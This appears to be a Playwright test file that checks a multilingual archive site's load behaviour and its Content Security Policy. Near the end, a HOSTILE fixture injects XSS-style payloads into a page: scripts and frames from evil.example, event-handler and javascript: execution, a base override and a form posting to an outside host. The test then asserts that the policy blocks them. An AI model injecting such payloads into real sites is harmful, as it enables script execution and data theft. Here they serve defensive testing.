"""How a page comes to its reader, in a real browser: one request, nothing foreign, nothing blocked, nothing that moves."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import pytest

from plugins.archive.languages import CODES, Code
from tests.pagekinds import REAL, TINY
from tests.sitetree import BuiltSite

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Request, Route

pytestmark = pytest.mark.browser

LATE = 0.15
# The longest that the first page may be held back for a font, which is by then in use or not at all.
SETTLED = 300
WATCH = """
    window.violations = [];
    window.shift = 0;
    document.addEventListener("securitypolicyviolation", event => violations.push(event.violatedDirective));
    new PerformanceObserver(list => list.getEntries().forEach(entry => { window.shift += entry.value; }))
        .observe({type: "layout-shift", buffered: true});
"""
FOUND = """() => ({
    violations, shift,
    blocking: performance.getEntries().filter(entry => entry.renderBlockingStatus === "blocking").map(entry => entry.name),
    ran: typeof window.ran,
    sideways: document.documentElement.scrollWidth - document.documentElement.clientWidth,
})"""


@dataclass
class Arrival:
    """What a browser asked for, said and saw while one page arrived."""

    url: str
    requests: list[tuple[str, str]] = field(default_factory=list)
    said: list[str] = field(default_factory=list)
    seen: dict[str, Any] = field(default_factory=dict)


class Visitor:
    """A browser's page that notes what it asks for and says, on the way from page to page."""

    def __init__(self, page: Page) -> None:
        self.page, self.found = page, Arrival("")
        page.add_init_script(WATCH)
        page.on("request", lambda request: self.found.requests.append((request.resource_type, request.url)))
        page.on("console", lambda message: self.found.said.append(message.text))
        page.on("pageerror", lambda error: self.found.said.append(str(error)))

    def visit(self, url: str) -> Arrival:
        """Go to a page, and return what was found."""
        self.found = found = Arrival(url)
        self.page.goto(url)
        found.seen = self.page.evaluate(FOUND)
        # The icon comes once a visit, after the page and for the tab alone.
        found.requests = [(kind, address) for kind, address in found.requests if "/theme/icon." not in address]
        return found

    def visit_late(self, url: str) -> Arrival:
        """Go to a page whose fonts are late, and wait for them."""

        def delay(route: Route) -> None:
            time.sleep(LATE)
            route.continue_()

        self.page.route("**/*.woff2", delay)
        found = self.visit(url)
        self.page.evaluate("document.fonts.ready")
        self.page.wait_for_timeout(SETTLED)
        found.seen = self.page.evaluate(FOUND)
        return found


@pytest.fixture(scope="module", params=[*CODES, ""])
def arrivals(request: pytest.FixtureRequest, browser: Browser, real_url: str, tiny_url: str) -> Iterator[list[Arrival]]:
    """Every kind of page in one language, and the pages before one is chosen, each arriving once."""
    code = request.param
    urls = [f"{real_url}{code}/{kind}" for kind in REAL] + [f"{tiny_url}{code}/{kind}" for kind in TINY]
    context = browser.new_context(viewport={"width": 360, "height": 800})
    visitor = Visitor(context.new_page())
    yield [visitor.visit(url) for url in (urls if code else [real_url, f"{real_url}404.html"])]
    context.close()


def test_one_request_brings_the_text(arrivals: list[Arrival]) -> None:
    """Besides the page and the icon a browser asks for the Arabic fonts alone: no style, no script, no picture."""
    for arrival in arrivals:
        kinds = [(kind, url.rpartition("/")[2]) for kind, url in arrival.requests]
        assert kinds[0][0] == "document", arrival.url
        assert {kind for kind, _ in kinds[1:]} <= {"font"}, arrival.url
        assert len(kinds) <= 3, arrival.url


def test_french_and_english_pages_ask_for_nothing_more(arrivals: list[Arrival]) -> None:
    """Only Arabic pages have fonts of ours."""
    for arrival in arrivals:
        if re.search(r"/(fr|en)/", arrival.url):
            assert len(arrival.requests) == 1, arrival.url


def test_nothing_comes_from_another_host(arrivals: list[Arrival], real_url: str, tiny_url: str) -> None:
    """Every request goes to the site itself."""
    asked = [url for arrival in arrivals for _, url in arrival.requests]
    assert [url for url in asked if not url.startswith((real_url, tiny_url))] == []


def test_nothing_blocks_the_first_sight(arrivals: list[Arrival]) -> None:
    """No request stands between the page and what a reader sees of it."""
    assert [arrival.seen["blocking"] for arrival in arrivals if arrival.seen["blocking"]] == []


def test_the_policy_has_nothing_to_refuse(arrivals: list[Arrival]) -> None:
    """No page breaks its own policy, and none has anything to complain of."""
    for arrival in arrivals:
        assert (arrival.seen["violations"], arrival.said) == ([], []), arrival.url


def test_nothing_moves_and_nothing_is_wider_than_a_phone(arrivals: list[Arrival]) -> None:
    """The layout shift of every page is 0, and no page scrolls sideways."""
    for arrival in arrivals:
        assert (arrival.seen["shift"], arrival.seen["sideways"]) == (0, 0), arrival.url


@pytest.mark.parametrize("width", [360, 1280])
@pytest.mark.parametrize("code", ["ar", "fr"])
def test_nothing_moves_when_fonts_come_late(browser: Browser, real_url: str, code: Code, width: int) -> None:
    """However late the fonts are, what a reader sees first stays where it is."""
    for kind in ("", "editions/casablanca-2021/", "editions/casablanca-2021/closing-report/", "figures/"):
        context = browser.new_context(viewport={"width": width, "height": 800})
        arrival = Visitor(context.new_page()).visit_late(f"{real_url}{code}/{kind}")
        context.close()
        assert arrival.seen["shift"] == 0, arrival.url
        # A browser may ask for the icon at any time; no reader waits for it.
        asked = [url for _, url in arrival.requests if "/icon." not in url]
        assert len(asked) == (3 if code == "ar" else 1), arrival.url


HOSTILE = """
<script>window.ran = true</script><script src="https://evil.example/a.js"></script><script src="/theme/a.js"></script>
<img src="/none.png" onerror="window.ran = true"><svg onload="window.ran = true"></svg>
<img src="https://evil.example/a.png"><iframe src="https://evil.example/"></iframe><iframe srcdoc="<p>x</p>"></iframe>
<style>main { display: none }</style><p id="worn" style="color: rgb(1, 2, 3)">x</p>
<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">
<object data="https://evil.example/"></object><embed src="https://evil.example/">
<form id="stolen" action="https://evil.example/"><input name="a"></form>
<a id="runs" href="javascript:window.ran = true">x</a>
"""
SMUGGLED = r"evil\.example|\.js$"
WAYS = sorted(
    [
        "base-uri",
        "form-action",
        "frame-src",
        "img-src",
        "object-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
        "style-src-elem",
    ]
)
ATTEMPT = """() => {
    document.getElementById("stolen").submit();
    document.getElementById("runs").click();
    return new Promise(resolve => setTimeout(() => resolve({
        ran: typeof window.ran, base: document.baseURI, shown: getComputedStyle(document.querySelector("main")).display,
        worn: getComputedStyle(document.getElementById("worn")).color, refused: [...new Set(violations)].sort(),
    }), 100));
}"""


@pytest.mark.parametrize("code", CODES)
def test_what_is_smuggled_into_a_page_does_nothing(
    browser: Browser, real: BuiltSite, real_url: str, code: Code
) -> None:
    """Scripts, styles, pictures, frames, forms and another base, should they ever get into a page, are all refused."""
    address = f"{code}/editions/casablanca-2021/closing-report/"
    hostile = real.pages[address].text.replace("<main", f"{HOSTILE}<main", 1)
    page = browser.new_page()

    def smuggle(route: Route) -> None:
        route.fulfill(body=hostile, content_type="text/html; charset=utf-8")

    refused: list[Request] = []
    page.on("requestfailed", lambda request: refused.append(request))
    page.route(real_url + address, smuggle)
    visitor = Visitor(page)
    visitor.visit(real_url + address)
    seen = page.evaluate(ATTEMPT)
    page.close()
    assert (seen["ran"], seen["base"]) == ("undefined", real_url + address)
    assert seen["shown"] != "none"
    assert seen["worn"] != "rgb(1, 2, 3)"
    assert {request.failure for request in refused} == {"csp"}
    assert {request.url for request in refused} == {
        url for _, url in visitor.found.requests if re.search(SMUGGLED, url)
    }
    assert seen["refused"] == WAYS
